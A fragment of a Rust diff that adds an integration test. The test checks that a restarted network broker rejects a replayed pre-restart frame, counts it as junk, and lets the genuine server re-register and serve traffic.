+    // Let a stats line (every second) count it.
+    thread::sleep(Duration::from_millis(2500));
+    let blog = read(&broker.err);
+    let replayed_registration = blog
+        .lines()
+        .find(|l| l.contains("registered tcp listener") && l.contains(" client 203.0.113.11:"));
+    assert!(
+        replayed_registration.is_none() && replay.contains("NO_ANSWER"),
+        "the restarted broker accepted a frame captured before its start: {replay}\n\
+         {replayed_registration:?}"
+    );
+    let junk = blog
+        .lines()
+        .rev()
+        .find(|l| l.contains(" stats "))
+        .map(|l| parse_counter(l, "junk_datagrams="))
+        .unwrap_or(0);
+    assert!(
+        junk >= 1,
+        "the replayed frame is not counted as rejected:\n{}",
+        tail(&blog, 10)
+    );
+    // The real server registers again (heartbeat every 2 s, then register) and serves.
+    let needle = format!("registered tcp listener local {A1}:8160 client {GWA}:");
+    let line = wait_line(&broker.err, UP, |l| l.contains(&needle))
+        .unwrap_or_else(|| panic!("a1 never re-registered:\n{}", read(&broker.err)));
+    let proxy = parse_after(&line, "-> proxy ");
+    rig.assert_real_bytes(
+        Host::B1,
+        false,
+        proxy,
+        &sha,
+        "b1 -> P after restart",
+        &broker,
+    );
+}
+
+fn parse_counter(line: &str, name: &str) -> u64 {
+    line.split_whitespace()
+        .find_map(|w| w.strip_prefix(name))
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(0)
+}
